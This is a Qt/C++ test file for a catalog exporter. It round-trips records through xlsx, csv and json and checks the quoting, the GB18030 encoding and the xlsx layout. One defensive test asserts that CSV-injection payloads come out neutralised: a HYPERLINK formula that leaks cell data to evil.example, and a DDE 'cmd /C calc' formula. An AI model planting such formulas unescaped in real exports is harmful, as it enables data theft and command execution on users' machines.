#include "ExportSample.h"
#include "XlsxTestFiles.h"
#include "core/rules/DraftFields.h"
#include "io/catalog/CatalogColumns.h"
#include "io/catalog/CatalogJson.h"
#include "io/catalog/CatalogTableParser.h"
#include "io/catalog/TableSource.h"
#include "io/csv/CsvReader.h"
#include "io/export/CatalogCsvWriter.h"
#include "io/export/CatalogWriter.h"
#include "io/export/ExportValues.h"

#include <QFile>
#include <QRegularExpression>
#include <QStringDecoder>
#include <QTemporaryDir>
#include <QTest>

using namespace govcat;
using namespace govcat::io;

// Export to .xlsx, .csv and .json, read back with the importer's readers, compare field by field.
class TestCatalogExport : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void roundTrip_data();
    void roundTrip();
    void hostileValuesRoundTrip_data();
    void hostileValuesRoundTrip();
    void csvFieldsStartWithNoFormulaCharacter();
    void emptyCatalog_data();
    void emptyCatalog();
    void csvUtf8WithBomAndQuoting();
    void csvGb18030();
    void xlsxLayout();
    void xlsxRefusesOversizedCell();

private:
    QString write(CatalogFileFormat format, const QList<ResourceDraft>& drafts, bool gb18030 = false);
    static ImportedCatalog read(const QString& path, CatalogFileFormat format, const QString& encoding = {});
    static void compare(const ImportedCatalog& catalog, const QList<ResourceDraft>& expected);

    QTemporaryDir m_dir;
    int m_files = 0;
};

QString TestCatalogExport::write(CatalogFileFormat format, const QList<ResourceDraft>& drafts, bool gb18030)
{
    CatalogWriteOptions options;
    options.legalBasisTitles = test::exportSampleBases();
    options.csvGb18030 = gb18030;
    const QString path =
        m_dir.filePath(QStringLiteral("export-%1.%2").arg(++m_files).arg(catalogFileSuffix(format)));
    auto writer = createCatalogWriter(format, options);
    auto r = writer->open(path);
    for (const ResourceDraft& d : drafts) {
        if (r) {
            r = writer->add(d);
        }
    }
    if (r) {
        r = writer->finish();
    }
    if (!r) {
        qWarning("%s", qPrintable(r.error().message));
        return {};
    }
    return path;
}

ImportedCatalog TestCatalogExport::read(const QString& path, CatalogFileFormat format,
                                        const QString& encoding)
{
    if (format == CatalogFileFormat::Json) {
        auto parsed = readCatalogJson(path);
        if (!parsed) {
            qWarning("%s", qPrintable(parsed.error().message));
            return {};
        }
        return parsed.value();
    }
    auto source = openTableSource(path, encoding);
    if (!source) {
        qWarning("%s", qPrintable(source.error().message));
        return {};
    }
    auto parsed = parseCatalogTables(*source.value());
    if (!parsed) {
        qWarning("%s", qPrintable(parsed.error().message));
        return {};
    }
    return parsed.value();
}

void TestCatalogExport::compare(const ImportedCatalog& catalog, const QList<ResourceDraft>& expected)
{
    QCOMPARE(catalog.resources.size(), expected.size());
    QVERIFY(catalog.unattached.isEmpty());
    const QHash<QString, QString> bases = test::exportSampleBases();
    for (qsizetype i = 0; i < expected.size(); ++i) {
        const ImportedResource& got = catalog.resources.at(i);
        const ResourceDraft& want = expected.at(i);
        for (const ImportProblem& p : got.problems) {
            qWarning("problem: %s", qPrintable(p.finding.message));
        }
        QVERIFY(got.problems.isEmpty());
        for (const QString& key : exportResourceKeys()) {
            QVERIFY2(got.present.contains(key), qPrintable(key));
        }
        QCOMPARE(got.draft.id, want.id);
        for (const DraftField& f : draftFields()) {
            if (f.column != QStringLiteral("no_share_basis_id")) {
                QCOMPARE(got.draft.*(f.member), want.*(f.member));
            }
        }
        QCOMPARE(got.noShareBasis, bases.value(want.noShareBasisId));
        QCOMPARE(got.draft.relatedCodes, want.relatedCodes);
        QCOMPARE(got.draft.survey, want.survey);
        QCOMPARE(got.itemsGiven, !want.items.isEmpty() || catalog.format == QStringLiteral("json"));
        QCOMPARE(got.draft.items.size(), want.items.size());
        for (qsizetype j = 0; j < want.items.size(); ++j) {
            QCOMPARE(got.draft.items.at(j), want.items.at(j));
            QCOMPARE(got.items.at(j).seq, int(j) + 1);
        }
    }
}

void TestCatalogExport::roundTrip_data()
{
    QTest::addColumn<CatalogFileFormat>("format");
    QTest::newRow("xlsx") << CatalogFileFormat::Xlsx;
    QTest::newRow("csv") << CatalogFileFormat::Csv;
    QTest::newRow("json") << CatalogFileFormat::Json;
}

void TestCatalogExport::roundTrip()
{
    QFETCH(CatalogFileFormat, format);
    const QList<ResourceDraft> sample = test::exportSample();
    const QString path = write(format, sample);
    QVERIFY(!path.isEmpty());
    compare(read(path, format), sample);
}

void TestCatalogExport::hostileValuesRoundTrip_data()
{
    roundTrip_data();
}

// Values that start like formulas, or with the quote the CSV export adds, come back exactly.
void TestCatalogExport::hostileValuesRoundTrip()
{
    QFETCH(CatalogFileFormat, format);
    const QList<ResourceDraft> sample = test::hostileSample();
    const QString path = write(format, sample);
    QVERIFY(!path.isEmpty());
    compare(read(path, format), sample);
}

// In the CSV file itself, no field starts with = + - @ tab or CR (OWASP CSV injection), except a
// plain number; the hostile values are there with one quote in front.
void TestCatalogExport::csvFieldsStartWithNoFormulaCharacter()
{
    const QString path = write(CatalogFileFormat::Csv, test::hostileSample(true) + test::exportSample());
    QVERIFY(!path.isEmpty());
    static const QRegularExpression number(QStringLiteral("^[+-]?[0-9]+(\\.[0-9]+)?$"));
    QStringList fields;
    auto read = CsvReader().readFile(path, [&](const CsvRow& row) {
        fields << row.cells;
        return true;
    });
    QVERIFY2(read, read ? "" : qPrintable(read.error().message));
    QVERIFY(fields.size() > 100);
    for (const QString& field : std::as_const(fields)) {
        const bool trigger = !field.isEmpty() && QStringLiteral("=+-@\t\r").contains(field.front());
        QVERIFY2(!trigger || number.match(field).hasMatch(), qPrintable(field));
    }
    QVERIFY(fields.contains(QStringLiteral("'=HYPERLINK(\"http://evil.example/?q=\"&A1,\"点击查看\")")));
    QVERIFY(fields.contains(QStringLiteral("'=cmd|' /C calc'!A0")));
    QVERIFY(fields.contains(QStringLiteral("''=已带引号的值")));
    QVERIFY(fields.contains(QStringLiteral("'''+两个引号")));
    QVERIFY(fields.contains(QStringLiteral("''-5")));
    QVERIFY(fields.contains(QStringLiteral("-5")));   // a plain number stays a number
    QVERIFY(fields.contains(QStringLiteral("'abc"))); // no trigger after the quote: as it is
    QVERIFY(fields.contains(QStringLiteral("'\t制表符开头")));
    QVERIFY(fields.contains(QStringLiteral("'\r回车开头")));
}

void TestCatalogExport::emptyCatalog_data()
{
    roundTrip_data();
}

void TestCatalogExport::emptyCatalog()
{
    QFETCH(CatalogFileFormat, format);
    const QString path = write(format, {});
    QVERIFY(!path.isEmpty());
    const ImportedCatalog catalog = read(path, format);
    QVERIFY(!catalog.format.isEmpty()); // the file was read
    QCOMPARE(catalog.resources.size(), 0);
}

void TestCatalogExport::csvUtf8WithBomAndQuoting()
{
    const QString path = write(CatalogFileFormat::Csv, test::exportSample());
    QFile f(path);
    QVERIFY(f.open(QIODevice::ReadOnly));
    const QByteArray bytes = f.readAll();
    QVERIFY(bytes.startsWith("\xEF\xBB\xBF"));
    const QString text = QString::fromUtf8(bytes.mid(3));
    // Header, three item rows of the first resource, one row for the resource without items, one item row.
    QVERIFY(text.startsWith(QStringLiteral("资源标识（请勿修改）,信息资源分类,信息资源代码,")));
    QVERIFY(text.contains(QStringLiteral(",\"市场主体\"\"登记\"\"信息，含逗号\",")));
    QVERIFY(text.contains(QStringLiteral("\"仅限\"\"政务\"\"用途,\n需申请\"")));
    QVERIFY(text.contains(QStringLiteral(",000012345/0012,")));
    QVERIFY(text.endsWith(QStringLiteral("\r\n")));
    QCOMPARE(CatalogCsvWriter::quoted(QStringLiteral("a,b")), QStringLiteral("\"a,b\""));
    QCOMPARE(CatalogCsvWriter::quoted(QStringLiteral("plain")), QStringLiteral("plain"));
    QCOMPARE(CatalogCsvWriter::quoted(QStringLiteral("x\"y")), QStringLiteral("\"x\"\"y\""));
    QCOMPARE(CatalogCsvWriter::quoted(QStringLiteral("a\rb")), QStringLiteral("\"a\rb\""));
}

void TestCatalogExport::csvGb18030()
{
    const QList<ResourceDraft> sample = test::exportSample();
    const QString utf8 = write(CatalogFileFormat::Csv, sample);
    const QString gb = write(CatalogFileFormat::Csv, sample, true);
    QVERIFY(!gb.isEmpty());
    QFile a(utf8);
    QFile b(gb);
    QVERIFY(a.open(QIODevice::ReadOnly) && b.open(QIODevice::ReadOnly));
    const QByteArray gbBytes = b.readAll();
    QVERIFY(!gbBytes.startsWith("\xEF\xBB\xBF"));
    QStringDecoder decoder("GB18030");
    QVERIFY(decoder.isValid());
    const QString decoded = decoder.decode(gbBytes);
    QVERIFY(!decoder.hasError());
    QCOMPARE(decoded, QString::fromUtf8(a.readAll().mid(3)));
    QVERIFY(gbBytes.contains(QByteArray("\xCA\xD0\xB3\xA1", 4))); // 市场 in GBK
    compare(read(gb, CatalogFileFormat::Csv, QStringLiteral("GB18030")), sample);
    compare(read(gb, CatalogFileFormat::Csv), sample); // detected
}

void TestCatalogExport::xlsxLayout()
{
    const QString path = write(CatalogFileFormat::Xlsx, test::exportSample());
    auto entry = [&](const QString& name) { return QString::fromUtf8(io::testing::zipEntry(path, name)); };
    const QString workbook = entry(QStringLiteral("xl/workbook.xml"));
    QVERIFY(workbook.contains(QStringLiteral("<sheet name=\"信息资源\"")));
    QVERIFY(workbook.contains(QStringLiteral("<sheet name=\"信息项\"")));
    QVERIFY(workbook.contains(QStringLiteral("<sheet name=\"代码表-共享类型\" sheetId=\"")));
    QVERIFY(workbook.contains(QStringLiteral("state=\"hidden\"")));
    const QString resources = entry(QStringLiteral("xl/worksheets/sheet1.xml"));
    QVERIFY(resources.contains(QStringLiteral("ySplit=\"1\""))); // frozen header
    QVERIFY(resources.contains(QStringLiteral("<dataValidation type=\"list\"")));
    QVERIFY(resources.contains(QStringLiteral("'代码表-共享类型'!$A$2:$A$4")));
    QVERIFY(resources.contains(QStringLiteral("<t>0012</t>"))); // a code stays text
    QVERIFY(resources.contains(QStringLiteral("<v>12.5</v>"))); // a figure is a number
    const QString items = entry(QStringLiteral("xl/worksheets/sheet2.xml"));
    QVERIFY(items.contains(QStringLiteral("'代码表-数据类型'!$A$2:")));
    QVERIFY(items.contains(QStringLiteral("<t>字符型</t>")));
    QVERIFY(items.contains(QStringLiteral("<t>是</t>")));
}

void TestCatalogExport::xlsxRefusesOversizedCell()
{
    QList<ResourceDraft> sample = test::exportSample();
    sample[1].abstract = QString(40000, QLatin1Char('x'));
    CatalogWriteOptions options;
    auto writer = createCatalogWriter(CatalogFileFormat::Xlsx, options);
    QVERIFY(writer->open(m_dir.filePath(QStringLiteral("big.xlsx"))));
    QVERIFY(writer->add(sample.at(0)));
    auto r = writer->add(sample.at(1));
    QVERIFY(!r);
    QVERIFY(r.error().message.contains(QStringLiteral("32767")));
    QVERIFY(!writer->finish());
}

QTEST_GUILESS_MAIN(TestCatalogExport)
#include "tst_catalogexport.moc"
